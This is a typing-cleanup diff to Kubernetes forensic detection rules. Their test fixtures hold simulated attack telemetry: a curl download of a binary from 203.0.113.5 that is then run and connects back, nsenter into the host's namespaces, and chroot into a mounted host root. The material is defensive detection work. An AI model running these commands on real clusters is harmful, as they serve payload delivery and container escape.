@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 import re
-from typing import TYPE_CHECKING, Iterable, Mapping
+from collections.abc import Iterable, Mapping
+from typing import TYPE_CHECKING, ClassVar
 
 import numpy as np
 import pandas as pd
@@ -11,7 +12,7 @@ import pandas as pd
 from kubeforensics.detect.conditions import derive
 from kubeforensics.detect.model import Severity
 from kubeforensics.detect.netutil import internal_mask, to_ns
-from kubeforensics.detect.pyrule import Load, PyRule, basename_sql, sql_in
+from kubeforensics.detect.pyrule import Frames, Load, PyRule, basename_sql, sql_in
 from kubeforensics.detect.stats import _ts
 
 if TYPE_CHECKING:  # pragma: no cover
@@ -78,15 +79,15 @@ class TokenAwayFromPod(PyRule):
     fields = ("audit.user", "audit.sa_pod_name", "audit.source_ip", "audit.request_object", "objects.pod_ip", "objects.pod_ips", "flows.src_ip", "flows.src_pod", "processes.saddr")
     false_positives = "Pods on hostNetwork use the node IP; pod IP evidence missing from the case (the rule stays silent when the pod's IPs are unknown)."
     summary = "token of {user} issued to pod {sa_namespace}/{sa_pod_name} ({pod_ips}) was used from {source_ip}: {verb} {resource}"
-    entity = {"namespace": "sa_namespace", "pod": "sa_pod_name", "actor": "user"}
+    entity: ClassVar[dict[str, str]] = {"namespace": "sa_namespace", "pod": "sa_pod_name", "actor": "user"}
     key = ("user", "sa_pod_name", "source_ip")
-    positive = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
+    positive: ClassVar[list[Frames]] = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
                  "audit": [{"user": "system:serviceaccount:shop:web", "sa_pod_name": "web-1", "source_ip": "10.244.3.3", "verb": "list", "resource": "secrets", "code": 200}]}]
-    negative = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
+    negative: ClassVar[list[Frames]] = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
                  "audit": [{"user": "system:serviceaccount:shop:web", "sa_pod_name": "web-1", "source_ip": "10.244.1.7", "verb": "list", "resource": "secrets", "code": 200},
                            {"user": "system:serviceaccount:shop:api", "sa_pod_name": "api-1", "source_ip": "10.244.9.9", "verb": "get", "resource": "configmaps", "code": 200}]}]
 
-    loads = {
+    loads: ClassVar[dict[str, Load]] = {
         "audit": Load(("user", "sa_pod_name", "source_ip", "verb", "resource", "subresource", "namespace", "name",
                        "CASE WHEN subresource = 'status' THEN request_object END AS request_object"),
                       "(sa_pod_name IS NOT NULL AND source_ip IS NOT NULL)"
@@ -96,7 +97,7 @@ class TokenAwayFromPod(PyRule):
         "processes": Load(("namespace", "pod", "saddr"), "saddr IS NOT NULL AND pod IS NOT NULL", distinct=True),
     }
 
-    def find(self, tables: Mapping[str, pd.DataFrame], config: "TuningConfig") -> pd.DataFrame:
+    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
         a = tables["audit"]
         a = a[a["sa_pod_name"].notna() & a["source_ip"].notna()]
         if a.empty:
@@ -109,7 +110,7 @@ class TokenAwayFromPod(PyRule):
         return out.assign(pod_ips=[",".join(sorted(k or ())) for k, h in zip(known, hit) if h])
 
 
-def _shells_under_runtime(p: pd.DataFrame, config: "TuningConfig") -> pd.DataFrame:
+def _shells_under_runtime(p: pd.DataFrame, config: TuningConfig) -> pd.DataFrame:
     e = p[(p["event_type"] == "exec") & p["pod"].notna()]
     e = e[e["binary_name"].isin(config.list("shells")) & e["parent_name"].isin(config.list("container_runtimes"))]
     return e[~e["args"].astype("string").str.match(r"^-c\s", na=False).astype(bool)]
@@ -133,14 +134,14 @@ class ShellWithoutExec(PyRule):
     fields = ("processes.binary", "processes.parent_binary", "processes.namespace", "processes.pod", "processes.time", "audit.resource", "audit.subresource", "audit.namespace", "audit.name", "audit.time")
     false_positives = "Audit policy that drops pods/exec; clock skew larger than two minutes between node and API server."
     summary = "`{cmdline}` started by {parent_binary} in {namespace}/{pod} on {node} with no exec or attach in the audit log"
-    entity = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
+    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
     key = ("namespace", "pod")
-    positive = [{"audit": [{"time": _ts(0), "verb": "get", "resource": "pods", "namespace": "default", "name": "other", "user": "x", "code": 200}],
+    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "get", "resource": "pods", "namespace": "default", "name": "other", "user": "x", "code": 200}],
                  "processes": [{"time": _ts(30), "event_type": "exec", "namespace": "default", "pod": "web-1", "binary": "/bin/bash", "parent_binary": "/usr/bin/runc", "node": "node-1"}]}]
-    negative = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-1", "user": "x", "code": 101}],
+    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-1", "user": "x", "code": 101}],
                  "processes": [{"time": _ts(1), "event_type": "exec", "namespace": "default", "pod": "web-1", "binary": "/bin/bash", "parent_binary": "/usr/bin/runc"}]}]
 
-    def plan(self, config: "TuningConfig") -> dict[str, Load]:
+    def plan(self, config: TuningConfig) -> dict[str, Load]:
         return {
             "processes": Load(("event_type", "namespace", "pod", "binary", "parent_binary", "args", "node"),
                               f"event_type = 'exec' AND pod IS NOT NULL"
@@ -149,7 +150,7 @@ class ShellWithoutExec(PyRule):
             "audit": Load(("namespace", "name", "resource", "subresource", "verb"), EXECS_SQL),
         }
 
-    def find(self, tables: Mapping[str, pd.DataFrame], config: "TuningConfig") -> pd.DataFrame:
+    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
         sh = _shells_under_runtime(tables["processes"], config)
         if sh.empty:
             return sh
@@ -180,14 +181,14 @@ class ExecThenHostEntry(PyRule):
     fields = ("audit.user", "audit.source_ip", "audit.namespace", "audit.name", "audit.exec_command", "processes.binary", "processes.function_name", "processes.host_namespaces", "processes.time")
     false_positives = "`kubectl debug node/...` sessions by SREs (hostPID pods with nsenter by design)."
     summary = "{user} exec'd into {namespace}/{pod} from {source_ip}; {delay} s later `{cmdline}` entered the host namespaces on {node}"
-    entity = {"namespace": "namespace", "pod": "pod", "actor": "user"}
+    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "user"}
     key = ("user", "namespace", "pod")
-    positive = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "exec_command": "bash", "code": 101, "source_ip": "203.0.113.9"}],
+    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "exec_command": "bash", "code": 101, "source_ip": "203.0.113.9"}],
                  "processes": [{"time": _ts(40), "event_type": "exec", "namespace": "default", "pod": "attacker", "binary": "/usr/bin/nsenter", "args": "-t 1 -m -u -n -i -p bash", "parent_binary": "/bin/bash", "node": "node-1"}]}]
-    negative = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "code": 101}],
+    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "code": 101}],
                  "processes": [{"time": _ts(4000), "event_type": "exec", "namespace": "default", "pod": "attacker", "binary": "/usr/bin/nsenter", "args": "-t 1 -m bash", "parent_binary": "/bin/bash"}]}]
 
-    loads = {
+    loads: ClassVar[dict[str, Load]] = {
         "processes": Load(("event_type", "namespace", "pod", "binary", "args", "function_name", "host_namespaces", "node",
                            "parent_binary"),
                           "pod IS NOT NULL AND ((event_type = 'exec' AND (regexp_extract(\"binary\", '[^/]*$') IN ('nsenter', 'unshare')"
@@ -196,7 +197,7 @@ class ExecThenHostEntry(PyRule):
                       EXECS_SQL + " AND (code IS NULL OR code < 400)"),
     }
 
-    def find(self, tables: Mapping[str, pd.DataFrame], config: "TuningConfig") -> pd.DataFrame:
+    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
         p = tables["processes"]
         p = p[p["pod"].notna() & ((p["event_type"] == "exec") | p["function_name"].notna())]
         hostns = p["host_namespaces"].map(lambda v: bool(_lower_set(v) & {"mnt", "pid"})).astype(bool)
@@ -227,23 +228,23 @@ class DropExecConnect(PyRule):
     fields = ("processes.event_type", "processes.binary", "processes.args", "processes.file_path", "processes.function_name", "processes.daddr", "processes.dport", "processes.time")
     false_positives = "Installers that download and run an agent that then reports home."
     summary = "{binary} was dropped ({how}), executed and connected to {daddr}:{dport} in {location} on {node}"
-    entity = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
+    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
     key = ("node", "namespace", "pod", "binary")
-    positive = [{"processes": [
+    positive: ClassVar[list[Frames]] = [{"processes": [
         {"time": _ts(0), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/bin/curl", "args": "-so /tmp/agent http://203.0.113.5/agent"},
         {"time": _ts(5), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/tmp/agent", "exec_id": "e1"},
         {"time": _ts(6), "event_type": "kprobe", "function_name": "tcp_connect", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/tmp/agent", "exec_id": "e1", "daddr": "203.0.113.5", "dport": 443}]}]
-    negative = [{"processes": [
+    negative: ClassVar[list[Frames]] = [{"processes": [
         {"time": _ts(5), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/local/bin/app"},
         {"time": _ts(6), "event_type": "kprobe", "function_name": "tcp_connect", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/local/bin/app", "daddr": "203.0.113.5", "dport": 443}]}]
 
-    loads = {"processes": Load(
+    loads: ClassVar[dict[str, Load]] = {"processes": Load(
         ("event_type", "binary", "parent_binary", "args", "file_path", "function_name", "daddr", "dport", "node",
          "namespace", "pod", "container_id"),
         "event_type = 'exec' OR (daddr IS NOT NULL AND contains(function_name, 'connect'))"
         " OR (file_path IS NOT NULL AND event_type IN ('kprobe', 'lsm', 'tracepoint'))")}
 
-    def find(self, tables: Mapping[str, pd.DataFrame], config: "TuningConfig") -> pd.DataFrame:
+    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
         p = tables["processes"]
         win = pd.Timedelta(seconds=config.threshold("drop_exec_connect_window_s", 600))
         conn = p[p["daddr"].notna() & p["function_name"].astype("string").str.contains("connect", na=False).astype(bool)]
@@ -293,14 +294,14 @@ class HostRootChroot(PyRule):
     fields = ("audit.pod_host_paths", "audit.namespace", "audit.name", "audit.user", "objects.host_paths", "processes.binary", "processes.args", "processes.pod")
     false_positives = "`kubectl debug node/...` (mounts / at /host; chroot /host is its documented use)."
     summary = "`{cmdline}` ran in {namespace}/{pod} on {node}, a pod created by {creator} with the host's / mounted"
-    entity = {"namespace": "namespace", "pod": "pod", "actor": "creator"}
+    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "creator"}
     key = ("namespace", "pod")
-    positive = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "rootpod", "user": "eve", "pod_host_paths": ["/"], "code": 201}],
+    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "rootpod", "user": "eve", "pod_host_paths": ["/"], "code": 201}],
                  "processes": [{"time": _ts(60), "event_type": "exec", "namespace": "default", "pod": "rootpod", "binary": "/usr/sbin/chroot", "args": "/host bash", "node": "node-1"}]}]
-    negative = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "logs", "user": "eve", "pod_host_paths": ["/var/log"], "code": 201}],
+    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "logs", "user": "eve", "pod_host_paths": ["/var/log"], "code": 201}],
                  "processes": [{"time": _ts(60), "event_type": "exec", "namespace": "default", "pod": "logs", "binary": "/usr/sbin/chroot", "args": "/host bash"}]}]
 
-    loads = {
+    loads: ClassVar[dict[str, Load]] = {
         "processes": Load(("event_type", "namespace", "pod", "binary", "parent_binary", "args", "node"),
                           "event_type = 'exec' AND pod IS NOT NULL"
                           " AND (regexp_extract(\"binary\", '[^/]*$') = 'chroot' OR contains(args, 'chroot'))"),
@@ -309,7 +310,7 @@ class HostRootChroot(PyRule):
         "objects": Load(("kind", "namespace", "name", "host_paths"), "kind = 'Pod' AND list_contains(host_paths, '/')"),
     }
 
-    def find(self, tables: Mapping[str, pd.DataFrame], config: "TuningConfig") -> pd.DataFrame:
+    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
         p = tables["processes"]
         p = p[(p["event_type"] == "exec") & p["pod"].notna()]
         ch = p[(
